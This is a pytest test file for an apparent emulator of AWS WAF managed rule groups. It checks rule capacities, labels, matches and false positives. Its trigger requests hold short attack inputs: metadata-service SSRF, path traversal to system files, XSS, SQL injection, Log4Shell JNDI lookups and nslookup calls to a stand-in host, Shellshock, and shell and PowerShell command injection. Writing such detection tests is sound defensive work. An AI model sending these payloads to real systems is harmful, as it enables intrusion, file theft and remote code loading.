"""The managed groups: AWS's names, capacities and labels, and for each rule a request that it is for."""

from __future__ import annotations

from typing import Any

import pytest

from garrison.aws.errors import AwsError
from garrison.waf import CompiledWebAcl, Request, State, compile_web_acl
from garrison.waf.groups import rules_of
from garrison.waf.managed import NAMES, find
from garrison.waf.rule_group import ManagedRuleGroup
from tests.waf.documents import Document

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
LISTS = {
    "ip-reputation": ["203.0.113.1/32"],
    "reconnaissance": ["203.0.113.2/32"],
    "ddos-sources": ["203.0.113.3/32"],
    "anonymous": ["203.0.113.4/32"],
    "hosting-providers": ["203.0.113.5/32", "2001:db8::/32"],
    "bot-data-centers": ["203.0.113.6/32"],
    "bots-google": ["203.0.113.7/32"],
}

CAPACITIES = {
    "AWSManagedRulesCommonRuleSet": (700, "core-rule-set"),
    "AWSManagedRulesAdminProtectionRuleSet": (100, "admin-protection"),
    "AWSManagedRulesKnownBadInputsRuleSet": (200, "known-bad-inputs"),
    "AWSManagedRulesSQLiRuleSet": (200, "sql-database"),
    "AWSManagedRulesLinuxRuleSet": (200, "linux-os"),
    "AWSManagedRulesUnixRuleSet": (100, "posix-os"),
    "AWSManagedRulesWindowsRuleSet": (200, "windows-os"),
    "AWSManagedRulesPHPRuleSet": (100, "php-app"),
    "AWSManagedRulesWordPressRuleSet": (100, "wordpress-app"),
    "AWSManagedRulesAmazonIpReputationList": (25, "amazon-ip-list"),
    "AWSManagedRulesAnonymousIpList": (50, "anonymous-ip-list"),
    "AWSManagedRulesBotControlRuleSet": (50, "bot-control"),
    "AWSManagedRulesATPRuleSet": (50, "atp"),
    "AWSManagedRulesACFPRuleSet": (50, "acfp"),
    "AWSManagedRulesAntiDDoSRuleSet": (50, "anti-ddos"),
}


HERE = tuple(name for _, name in NAMES if name != "AWSManagedRulesAntiDDoSRuleSet")
"""Those that a single request can be matched by."""


def known(name: str) -> ManagedRuleGroup:
    group = find("AWS", name)
    assert group is not None
    return group


def test_every_group_has_the_capacity_and_namespace_of_aws() -> None:
    found = {name: (known(name).capacity, known(name).label_namespace) for _, name in NAMES}
    assert found == {n: (wcu, f"awswaf:managed:aws:{space}:") for n, (wcu, space) in CAPACITIES.items()}


def test_rule_names_are_unique_and_each_running_rule_says_so() -> None:
    for _, name in NAMES:
        names = [rule.name for rule in known(name).rules]
        assert len(names) == len(set(names))
    silent = {name for _, name in NAMES if not any(rule.runs for rule in known(name).rules)}
    assert silent == {"AWSManagedRulesATPRuleSet", "AWSManagedRulesACFPRuleSet"}
    assert all("yet" in known(name).description for name in silent)


def test_other_vendors_and_names_are_unknown() -> None:
    assert find("Fortinet", "AWSManagedRulesSQLiRuleSet") is None
    assert find("AWS", "AWSManagedRulesNoSuchRuleSet") is None


def _acl(*, level: str = "COMMON") -> CompiledWebAcl:
    rules = []
    for priority, name in enumerate(HERE):
        group = known(name)
        statement: dict[str, Any] = {
            "VendorName": "AWS",
            "Name": name,
            "RuleActionOverrides": [{"Name": rule.name, "ActionToUse": {"Count": {}}} for rule in group.rules],
        }
        if name == "AWSManagedRulesBotControlRuleSet":
            statement["ManagedRuleGroupConfigs"] = [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": level}}]
        visibility = {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": f"m{priority}"}
        rules.append(
            {
                "Name": name,
                "Priority": priority,
                "Statement": {"ManagedRuleGroupStatement": statement},
                "OverrideAction": {"None": {}},
                "VisibilityConfig": visibility,
            }
        )
    document = {
        "Name": "all",
        "ARN": "arn:aws:wafv2:us-east-1:123456789012:regional/webacl/all/11111111-2222-3333-4444-555555555555",
        "DefaultAction": {"Allow": {}},
        "Rules": rules,
        "VisibilityConfig": {"SampledRequestsEnabled": False, "CloudWatchMetricsEnabled": False, "MetricName": "all"},
    }

    def resolve(arn: str) -> Document | None:
        addresses = LISTS.get(arn.removeprefix("garrison:ip-list:"))
        return None if addresses is None else {"Addresses": addresses, "IPAddressVersion": "IPV4"}

    return compile_web_acl(document, resolve)


@pytest.fixture(scope="module")
def acl() -> CompiledWebAcl:
    return _acl()


def asked(
    target: str = "/",
    *,
    method: str = "GET",
    body: str | bytes = b"",
    kind: str = "application/x-www-form-urlencoded",
    source: str = "198.51.100.7",
    host: str = "shop.example",
    agent: str | None = FIREFOX,
    **headers: str,
) -> Request:
    named = {"Host": host, **{name.replace("_", "-"): value for name, value in headers.items()}}
    pairs = [(name.encode(), value.encode()) for name, value in named.items()]
    if agent is not None:
        pairs.append((b"User-Agent", agent.encode()))
    data = body.encode() if isinstance(body, str) else body
    if data:
        pairs.append((b"Content-Type", kind.encode()))
        method = "POST"
    return Request(method=method, target=target.encode(), headers=tuple(pairs), body=data, source_ip=source)


def matched(acl: CompiledWebAcl, request: Request) -> dict[str, set[str]]:
    """Rules that matched, with the labels they added."""
    verdict = acl.inspect(request, State(), 1.0)
    return {match.rule: set(match.labels) for group in verdict.groups for match in group.matched}


FIRES: list[tuple[str, str, Request]] = [
    ("NoUserAgent_HEADER", "core-rule-set:NoUserAgent_Header", asked(agent=None)),
    ("NoUserAgent_HEADER", "core-rule-set:NoUserAgent_Header", asked(agent="")),
    ("UserAgent_BadBots_HEADER", "core-rule-set:BadBots_Header", asked(agent="sqlmap/1.8#stable")),
    ("SizeRestrictions_QUERYSTRING", "core-rule-set:SizeRestrictions_QueryString", asked("/?a=" + "x" * 2047)),
    (
        "SizeRestrictions_Cookie_HEADER",
        "core-rule-set:SizeRestrictions_Cookie_Header",
        asked(Cookie="a=" + "x" * 10239),
    ),
    ("SizeRestrictions_BODY", "core-rule-set:SizeRestrictions_Body", asked(body="a=" + "x" * 8191)),
    ("SizeRestrictions_URIPATH", "core-rule-set:SizeRestrictions_URIPath", asked("/" + "x" * 1024)),
    ("EC2MetaDataSSRF_BODY", "core-rule-set:EC2MetaDataSSRF_Body", asked(body="u=http://169.254.169.254/")),
    ("EC2MetaDataSSRF_COOKIE", "core-rule-set:EC2MetaDataSSRF_Cookie", asked(Cookie="u=http://169.254.169.254/")),
    ("EC2MetaDataSSRF_URIPATH", "core-rule-set:EC2MetaDataSSRF_URIPath", asked("/x/169.254.169.254/latest/meta-data")),
    (
        "EC2MetaDataSSRF_QUERYARGUMENTS",
        "core-rule-set:EC2MetaDataSSRF_QueryArguments",
        asked("/?u=http://169.254.169.254"),
    ),
    ("GenericLFI_QUERYARGUMENTS", "core-rule-set:GenericLFI_QueryArguments", asked("/?f=../../x")),
    ("GenericLFI_URIPATH", "core-rule-set:GenericLFI_URIPath", asked("/a/..%2f..%2fx")),
    ("GenericLFI_BODY", "core-rule-set:GenericLFI_Body", asked(body='{"f": "..\\\\..\\\\x"}', kind="application/json")),
    ("RestrictedExtensions_URIPATH", "core-rule-set:RestrictedExtensions_URIPath", asked("/app.log")),
    ("RestrictedExtensions_QUERYARGUMENTS", "core-rule-set:RestrictedExtensions_QueryArguments", asked("/?f=app.ini")),
    ("GenericRFI_QUERYARGUMENTS", "core-rule-set:GenericRFI_QueryArguments", asked("/?u=http://203.0.113.9/x")),
    ("GenericRFI_BODY", "core-rule-set:GenericRFI_Body", asked(body="u=http%3A%2F%2F203.0.113.9%2Fx")),
    ("GenericRFI_URIPATH", "core-rule-set:GenericRFI_URIPath", asked("/go/http://203.0.113.9/x")),
    ("CrossSiteScripting_COOKIE", "core-rule-set:CrossSiteScripting_Cookie", asked(Cookie="a=%3Cscript%3E")),
    (
        "CrossSiteScripting_QUERYARGUMENTS",
        "core-rule-set:CrossSiteScripting_QueryArguments",
        asked("/?q=%3Cscript%3Ex()"),
    ),
    ("CrossSiteScripting_BODY", "core-rule-set:CrossSiteScripting_Body", asked(body="q=%3Csvg+onload%3Dx()%3E")),
    ("CrossSiteScripting_URIPATH", "core-rule-set:CrossSiteScripting_URIPath", asked("/%3Cscript%3Ex()")),
    ("AdminProtection_URIPATH", "admin-protection:AdminProtection_URIPath", asked("/phpmyadmin/")),
    (
        "JavaDeserializationRCE_HEADER",
        "known-bad-inputs:JavaDeserializationRCE_Header",
        asked(X="(java.lang.Runtime).getRuntime().exec('id')"),
    ),
    ("JavaDeserializationRCE_BODY", "known-bad-inputs:JavaDeserializationRCE_Body", asked(body="a=java.lang.Runtime")),
    ("JavaDeserializationRCE_URIPATH", "known-bad-inputs:JavaDeserializationRCE_URIPath", asked("/java.lang.Runtime")),
    (
        "JavaDeserializationRCE_QUERYSTRING",
        "known-bad-inputs:JavaDeserializationRCE_QueryString",
        asked("/?class.module.classLoader.x=1"),
    ),
    ("Host_localhost_HEADER", "known-bad-inputs:Host_Localhost_Header", asked(host="localhost:8080")),
    ("PROPFIND_METHOD", "known-bad-inputs:Propfind_Method", asked(method="PROPFIND")),
    ("ExploitablePaths_URIPATH", "known-bad-inputs:ExploitablePaths_URIPath", asked("/.git/config")),
    ("Log4JRCE_HEADER", "known-bad-inputs:Log4JRCE_Header", asked(agent="${jndi:ldap://e.example/a}")),
    ("Log4JRCE_QUERYSTRING", "known-bad-inputs:Log4JRCE_QueryString", asked("/?a=$%7B$%7Blower:j%7Dndi:rmi://e%7D")),
    ("Log4JRCE_BODY", "known-bad-inputs:Log4JRCE_Body", asked(body="a=${jndi:dns://e.example}")),
    ("Log4JRCE_URIPATH", "known-bad-inputs:Log4JRCE_URIPath", asked("/$%7Bjndi:ldap:%2f%2fe.example%2fa%7D")),
    (
        "ReactJSRCE_BODY",
        "known-bad-inputs:ReactJSRCE_Body",
        asked(body='{"then":"$1:__proto__:then","status":"resolved_model"}', kind="application/json"),
    ),
    ("SQLi_QUERYARGUMENTS", "sql-database:SQLi_QueryArguments", asked("/?id=7'+or+'3'%3D'3")),
    ("SQLi_BODY", "sql-database:SQLi_Body", asked(body="id=7+union+select+1,2,3--")),
    ("SQLi_COOKIE", "sql-database:SQLi_Cookie", asked(Cookie="id=7' and 1=1--")),
    ("SQLi_URIPATH", "sql-database:SQLi_URIPath", asked("/item/7'%20or%20'3'='3")),
    (
        "SQLiExtendedPatterns_QUERYARGUMENTS",
        "sql-database:SQLiExtendedPatterns_QueryArguments",
        asked("/?sort=substring("),
    ),
    ("SQLiExtendedPatterns_BODY", "sql-database:SQLiExtendedPatterns_Body", asked(body="user[$ne]=x")),
    ("SQLiExtendedPatterns_HEADER", "sql-database:SQLiExtendedPatterns_Header", asked(X="7' or '3'='3")),
    ("SQLiExtendedPatterns_URIPATH", "sql-database:SQLiExtendedPatterns_UriPath", asked("/information_schema.tables")),
    ("LFI_URIPATH", "linux-os:LFI_URIPath", asked("/proc/self/environ")),
    ("LFI_QUERYSTRING", "linux-os:LFI_QueryString", asked("/?f=/proc/version")),
    ("LFI_HEADER", "linux-os:LFI_Header", asked(Cookie="f=/etc/hosts")),
    (
        "UNIXShellCommandsVariables_QUERYSTRING",
        "posix-os:UNIXShellCommandsVariables_QueryString",
        asked("/?a=;cat%20/etc/hosts"),
    ),
    ("UNIXShellCommandsVariables_BODY", "posix-os:UNIXShellCommandsVariables_Body", asked(body="a=echo+$HOME")),
    ("UNIXShellCommandsVariables_HEADER", "posix-os:UNIXShellCommandsVariables_Header", asked(agent="() { :; }; id")),
    ("WindowsShellCommands_COOKIE", "windows-os:WindowsShellCommands_Cookie", asked(Cookie="a=%7Cnslookup e.example")),
    (
        "WindowsShellCommands_QUERYARGUMENTS",
        "windows-os:WindowsShellCommands_QueryArguments",
        asked("/?a=%26dir%20c:%5C"),
    ),
    ("WindowsShellCommands_BODY", "windows-os:WindowsShellCommands_Body", asked(body="a=cmd.exe+/c+dir")),
    ("PowerShellCommands_COOKIE", "windows-os:PowerShellCommands_Cookie", asked(Cookie="a=Invoke-Expression")),
    (
        "PowerShellCommands_QUERYARGUMENTS",
        "windows-os:PowerShellCommands_QueryArguments",
        asked("/?a=New-Object%20Net.WebClient"),
    ),
    (
        "PowerShellCommands_BODY",
        "windows-os:PowerShellCommands_Body",
        asked(body="a=powershell+-enc+SQBFAFgAIAAoAE4AZQB3"),
    ),
    ("PHPHighRiskMethodsVariables_HEADER", "php-app:PHPHighRiskMethodsVariables_Header", asked(X="<?php echo 1;")),
    (
        "PHPHighRiskMethodsVariables_QUERYSTRING",
        "php-app:PHPHighRiskMethodsVariables_QueryString",
        asked("/?a=fsockopen('x',80)"),
    ),
    ("PHPHighRiskMethodsVariables_BODY", "php-app:PHPHighRiskMethodsVariables_Body", asked(body="a=$_GET['x']")),
    (
        "WordPressExploitableCommands_QUERYSTRING",
        "wordpress-app:WordPressExploitableCommands_QUERYSTRING",
        asked("/?do-reset-wordpress=true"),
    ),
    ("WordPressExploitablePaths_URIPATH", "wordpress-app:WordPressExploitablePaths_URIPATH", asked("/xmlrpc.php")),
    ("AWSManagedIPReputationList", "amazon-ip-list:AWSManagedIPReputationList", asked(source="203.0.113.1")),
    ("AWSManagedReconnaissanceList", "amazon-ip-list:AWSManagedReconnaissanceList", asked(source="203.0.113.2")),
    ("AWSManagedIPDDoSList", "amazon-ip-list:AWSManagedIPDDoSList", asked(source="203.0.113.3")),
    ("AnonymousIPList", "anonymous-ip-list:AnonymousIPList", asked(source="203.0.113.4")),
    ("HostingProviderIPList", "anonymous-ip-list:HostingProviderIPList", asked(source="2001:db8::7")),
    ("CategoryHttpLibrary", "bot-control:bot:category:http_library", asked(agent="curl/8.5.0")),
    (
        "CategorySearchEngine",
        "bot-control:bot:category:search_engine",
        asked(agent="Mozilla/5.0 (compatible; Googlebot/2.1)"),
    ),
    ("CategoryAI", "bot-control:bot:category:ai", asked(agent="Mozilla/5.0 (compatible; GPTBot/1.2)")),
    ("CategoryMonitoring", "bot-control:bot:category:monitoring", asked(agent="UptimeRobot/2.0")),
    ("CategoryMiscellaneous", "bot-control:bot:category:miscellaneous", asked(agent="my own crawler/1")),
    (
        "SignalAutomatedBrowser",
        "bot-control:signal:automated_browser",
        asked(agent="Mozilla/5.0 (X11) HeadlessChrome/126.0"),
    ),
    ("SignalKnownBotDataCenter", "bot-control:signal:known_bot_data_center", asked(source="203.0.113.6")),
    ("SignalNonBrowserUserAgent", "bot-control:signal:non_browser_user_agent", asked(agent="MyApp 7")),
]


@pytest.mark.parametrize(("rule", "label", "request_"), FIRES, ids=[fire[0] for fire in FIRES])
def test_a_rule_matches_what_it_is_for_and_says_so_with_its_label(
    acl: CompiledWebAcl, rule: str, label: str, request_: Request
) -> None:
    found = matched(acl, request_)
    assert rule in found
    assert f"awswaf:managed:aws:{label}" in acl.inspect(request_, State(), 1.0).labels


def test_every_rule_that_runs_by_default_has_been_seen_to_match() -> None:
    categories = {
        "Category" + name for name in ("Advertising", "Archiver", "ContentFetcher", "EmailClient", "LinkChecker")
    }
    categories |= {"Category" + name for name in ("PagePreview", "ScrapingFramework", "Security", "Seo", "SocialMedia")}
    by_default = {
        rule.name
        for name in HERE
        for rule in rules_of(known(name), None, [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "COMMON"}}])
        if rule.runs and rule.listed
    }
    assert by_default - {fire[0] for fire in FIRES} == categories | {"CategoryWebhooks"}


ORDINARY = [
    asked(),
    asked("/search?q=O%27Neill+%26+Sons&page=2&sort=price_asc"),
    asked("/assets/app.min.js?v=1.2.3", Cookie="session=0f8fad5b-d9cb-469f-a165-70867728950e; theme=dark"),
    asked("/login?next=%2Faccount%2Forders%3Fstatus%3Dopen", body="email=bob%40example.com&password=%211Wg_g%5EG"),
    asked("/api", body='{"name": "Zoë", "note": "it\'s 5 o\'clock; let\'s go"}', kind="application/json"),
    asked("/graphql", body='{"query": "query A($a: Int) { b(first: $a) { id } }"}', kind="application/json"),
    asked("/ws", body="<?xml version='1.0'?><a xmlns='urn:b'><c>1 &lt; 2</c></a>", kind="text/xml"),
    asked("/collect", body="en=view&dl=https%3A%2F%2Fexample.com%2Fp%3Fid%3D1", kind="text/plain;charset=UTF-8"),
    asked("/", Accept="text/html,application/xhtml+xml,*/*;q=0.8", Accept_Language="de-CH,de;q=0.9", Referer="https://example.com/a?b=c"),
]  # fmt: skip


@pytest.mark.parametrize("request_", ORDINARY)
def test_ordinary_requests_match_nothing(acl: CompiledWebAcl, request_: Request) -> None:
    assert matched(acl, request_) == {}


LIMITS = [
    ("SizeRestrictions_QUERYSTRING", asked("/?a=" + "x" * 2046)),
    ("SizeRestrictions_BODY", asked(body="a=" + "x" * 8190)),
    ("SizeRestrictions_URIPATH", asked("/" + "x" * 1023)),
    ("GenericLFI_QUERYARGUMENTS", asked("/?f=../x+is+relative")),
    ("Host_localhost_HEADER", asked(host="localhost.example.com")),
    ("EC2MetaDataSSRF_QUERYARGUMENTS", asked("/?u=http://169.254.1.1.example/")),
    ("AnonymousIPList", asked(source="203.0.113.40")),
    ("CategorySearchEngine", asked(agent="Mozilla/5.0 (compatible; Googlebot/2.1)", source="203.0.113.7")),
]


@pytest.mark.parametrize(("rule", "request_"), LIMITS, ids=[limit[0] for limit in LIMITS])
def test_a_rule_stops_where_it_should(acl: CompiledWebAcl, rule: str, request_: Request) -> None:
    assert rule not in matched(acl, request_)


def test_a_verified_bot_is_labelled_and_passes(acl: CompiledWebAcl) -> None:
    labels = acl.inspect(asked(agent="Googlebot/2.1", source="203.0.113.7"), State(), 1.0).labels
    prefix = "awswaf:managed:aws:bot-control:bot:"
    assert {prefix + "verified", prefix + "name:googlebot", prefix + "organization:google"} <= set(labels)
    assert prefix + "unverified" not in labels
    assert "CategoryAI" in matched(acl, asked(agent="Google-Extended", source="203.0.113.7"))


def test_older_versions_lack_the_rules_that_came_later() -> None:
    unix = known("AWSManagedRulesUnixRuleSet")
    older = {rule.name for rule in rules_of(unix, unix.versions[0].name, ())}
    newest = {rule.name for rule in rules_of(unix, None, ())}
    assert "UNIXShellCommandsVariables_QUERYARGUMENTS" in older - newest
    assert "UNIXShellCommandsVariables_HEADER" in newest - older


def test_bot_control_needs_its_inspection_level() -> None:
    group = known("AWSManagedRulesBotControlRuleSet")
    with pytest.raises(AwsError) as refused:
        rules_of(group, None, ())
    assert refused.value.code == "WAFInvalidParameterException"
    targeted = rules_of(group, None, [{"AWSManagedRulesBotControlRuleSet": {"InspectionLevel": "TARGETED"}}])
    assert {rule.name for rule in targeted if not rule.runs} >= {"TGT_TokenAbsent", "TGT_VolumetricSession"}


def test_the_details_of_an_injection_are_told(acl: CompiledWebAcl) -> None:
    verdict = acl.inspect(asked("/?id=7'+or+'3'%3D'3"), State(), 1.0)
    (match,) = [m for group in verdict.groups for m in group.matched if m.rule == "SQLi_QUERYARGUMENTS"]
    (detail,) = match.details
    assert (detail.condition_type, detail.location, detail.matched_field) == ("SQL_INJECTION", "ALL_QUERY_ARGS", "id")
    assert detail.matched_data[:2] == ("'", "or")
